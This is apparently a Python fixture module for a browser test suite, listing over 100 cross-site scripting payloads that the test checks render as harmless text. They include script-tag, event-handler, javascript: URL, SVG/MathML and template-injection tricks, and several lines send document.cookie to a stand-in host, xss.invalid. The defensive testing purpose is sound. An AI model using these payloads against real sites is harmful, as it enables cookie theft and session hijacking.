"""Cross-site scripting payloads for the untrusted-content suite.

Each payload, if it ever ran, would set `window.__xss`, open a dialog, write "xss" to the
console or fetch from xss.invalid: the browser test watches for all four. Each is at most
200 characters, so it fits any text column (display names, token and project names), and
each is shown with a marker (PAYLOAD007) that lets the test check it reached the page.
"""

from dataclasses import dataclass

SET = "__xss=1"
EXTERNAL = "http://xss.invalid"

BODIES: tuple[str, ...] = (
    # Script elements, plain and disguised.
    f"<script>{SET}</script>",
    "<script>alert(1)</script>",
    f"<script src={EXTERNAL}/x.js></script>",
    f"<SCRIPT>{SET}</SCRIPT>",
    f"<script>fetch('{EXTERNAL}/steal?c='+document.cookie)</script>",
    "<script>console.log('xss')</script>",
    f"<scr<script>ipt>{SET}</scr</script>ipt>",
    f"<<script>script>{SET}<</script>/script>",
    f"<script>/*</script><svg onload={SET}>*/</script>",
    f"<script type=module>{SET}</script>",
    # Event handlers.
    f"<img src=x onerror={SET}>",
    f'<img src="x" onerror="{SET}">',
    f"<img/src=x/onerror={SET}>",
    f"<img src=x onerror={SET}//",
    "<img src=x onerror=&#95;&#95;xss=1>",
    "<img src=x:alert(1) onerror=eval(src)>",
    f"<img src=x onerror=\"fetch('{EXTERNAL}/'+document.cookie)\">",
    "<img src=x onerror=\"console.log('xss')\">",
    f"<svg onload={SET}>",
    f"<svg/onload={SET}>",
    f"<body onload={SET}>",
    f"<details open ontoggle={SET}>",
    f"<input autofocus onfocus={SET}>",
    f"<select autofocus onfocus={SET}></select>",
    f"<textarea autofocus onfocus={SET}></textarea>",
    f"<video><source onerror={SET}></video>",
    f"<audio src=x onerror={SET}>",
    f"<marquee onstart={SET}>m</marquee>",
    f"<x onclick={SET}>click me</x>",
    f"<a id=x tabindex=1 onfocus={SET} autofocus>x</a>",
    f"<frameset onload={SET}>",
    f"<div onmouseover={SET}>hover</div>",
    f"<img srcset='{EXTERNAL}/y.png 2x' onerror={SET}>",
    f"<details><summary>s</summary><img src=x onerror={SET}></details>",
    f"<IMG SRC=x OnErRoR={SET}>",
    # javascript: and data: URLs.
    f'<a href="javascript:{SET}">click</a>',
    f'<a href="JaVaScRiPt:{SET}">click</a>',
    f'<a href="&#106;avascript:{SET}">click</a>',
    f'<a href="java&#x09;script:{SET}">click</a>',
    f'<a href="jav&#x0A;ascript:{SET}">click</a>',
    f'<a href="javascript&colon;{SET}">click</a>',
    f'<a href="  javascript:{SET}">click</a>',
    f'<a href="\x01javascript:{SET}">click</a>',
    f'<a href="data:text/html,<script>{SET}</script>">click</a>',
    f"<IMG SRC=JaVaScRiPt:{SET}>",
    f'<form action="javascript:{SET}"><button>go</button></form>',
    f'<button formaction="javascript:{SET}">go</button>',
    f'<table background="javascript:{SET}"><tr><td>t</td></tr></table>',
    f'<object data="javascript:{SET}"></object>',
    f'<embed src="javascript:{SET}">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{SET}">',
    f"javascript:{SET}",
    f"data:text/html,<script>{SET}</script>",
    "data:text/html;base64,PHNjcmlwdD5fX3hzcz0xPC9zY3JpcHQ+",
    # SVG and MathML.
    f"<svg><script>{SET}</script></svg>",
    f"<svg><animate onbegin={SET} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{SET}"><text y=9>t</text></a></svg>',
    f'<svg><set attributeName="onmouseover" to="{SET}"/></svg>',
    f'<svg><animate attributeName=href values="javascript:{SET}"/><a><text>x</text></a></svg>',
    f"<svg><foreignObject><script>{SET}</script></foreignObject></svg>",
    f"<svg><style><img src=x onerror={SET}></style></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={SET}>",
    f'<math><mi xlink:href="javascript:{SET}">x</mi></math>',
    f'<svg></p><style><a id="</style><img src=1 onerror={SET}>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={SET}>",
    f'<noscript><p title="</noscript><img src=x onerror={SET}>">',
    # Frames and embedded documents.
    f'<iframe src="javascript:parent.{SET}"></iframe>',
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    '<iframe srcdoc="&lt;script&gt;parent.__xss=1&lt;/script&gt;"></iframe>',
    '<iframe src="data:text/html,<script>parent.__xss=1</script>"></iframe>',
    f'<object data="data:text/html,<script>{SET}</script>"></object>',
    f'<embed src="data:text/html,<script>{SET}</script>">',
    f'<portal src="javascript:{SET}"></portal>',
    f"<base href={EXTERNAL}/>",
    f"<link rel=stylesheet href={EXTERNAL}/x.css>",
    # CSS.
    f'<div style="width: expression({SET})">css expression</div>',
    f'<div style="background:url(javascript:{SET})">css url</div>',
    f"<style>@import '{EXTERNAL}/x.css';</style>",
    f"<style>*{{background:url('{EXTERNAL}/bg.png')}}</style>",
    f'<div style="behavior: url({EXTERNAL}/x.htc)">behavior</div>',
    # Breaking out of attributes, elements and comments.
    f'"><script>{SET}</script>',
    f"'><script>{SET}</script>",
    f'" onmouseover="{SET}" x="',
    f"' onfocus='{SET}' autofocus x='",
    f'"autofocus onfocus="{SET}',
    f"</textarea><script>{SET}</script>",
    f"</title><script>{SET}</script>",
    f"</script><script>{SET}</script>",
    f"</style><script>{SET}</script>",
    f"</option></select><img src=x onerror={SET}>",
    f'"--></style></script><script>{SET}</script>',
    f"<!--<script>{SET}</script>-->",
    f"--><script>{SET}</script>",
    f"<![CDATA[<script>{SET}</script>]]>",
    f"<xmp><script>{SET}</script></xmp>",
    f"<plaintext><script>{SET}</script>",
    f"<template><script>{SET}</script></template>",
    f'<img src="x`onerror={SET}>',
    # Encoded forms that must stay text.
    f"&lt;script&gt;{SET}&lt;/script&gt;",
    f"&#60;script&#62;{SET}&#60;/script&#62;",
    f"\\u003cscript\\u003e{SET}\\u003c/script\\u003e",
    f"%3Cscript%3E{SET}%3C/script%3E",
    f"&amp;lt;img src=x onerror={SET}&amp;gt;",
    # Markdown link and image tricks.
    f"[click](javascript:{SET})",
    f"[click](JAVASCRIPT:{SET})",
    f"[click](javascript&#58;{SET})",
    "[click](data:text/html;base64,PHNjcmlwdD5fX3hzcz0xPC9zY3JpcHQ+)",
    f'![img](x" onerror="{SET})',
    f"![img](javascript:{SET})",
    f"![pixel]({EXTERNAL}/pixel.png)",
    f'[a]({EXTERNAL}/ "t\\" onmouseover=\\"{SET}")',
    f"<{EXTERNAL}/?a=<script>{SET}</script>>",
    f"[ref]\n\n[ref]: javascript:{SET}",
    f"[<img src=x onerror={SET}>](https://example.org)",
    f"```html\n<script>{SET}</script>\n```",
    f"`<script>{SET}</script>`",
    # Template injection: must show as typed.
    "{{7*7}}",
    "{{ config.items() }}",
    "{% for x in range(3) %}{{x}}{% endfor %}",
    "${7*7}",
    "#{7*7}",
    "{{constructor.constructor('__xss=1')()}}",
    "<div ng-app>{{constructor.constructor('__xss=1')()}}</div>",
)


@dataclass(frozen=True)
class Payload:
    number: int
    body: str

    @property
    def marker(self) -> str:
        return f"PAYLOAD{self.number:03d}"

    @property
    def text(self) -> str:
        """For one text field: shown escaped, so the page must show it exactly as typed."""
        return f"{self.marker} {self.body}"

    @property
    def block(self) -> str:
        """For markdown: its own paragraph, so block syntax (fences, references) works."""
        return f"{self.marker}\n\n{self.body}"


PAYLOADS = tuple(Payload(number, body) for number, body in enumerate(BODIES))


def markdown_document(payloads: tuple[Payload, ...] = PAYLOADS) -> str:
    return "\n\n".join(payload.block for payload in payloads)


def chunks(size: int) -> list[tuple[Payload, ...]]:
    return [PAYLOADS[start : start + size] for start in range(0, len(PAYLOADS), size)]


assert len(PAYLOADS) >= 100
assert all(len(payload.text) <= 200 for payload in PAYLOADS)
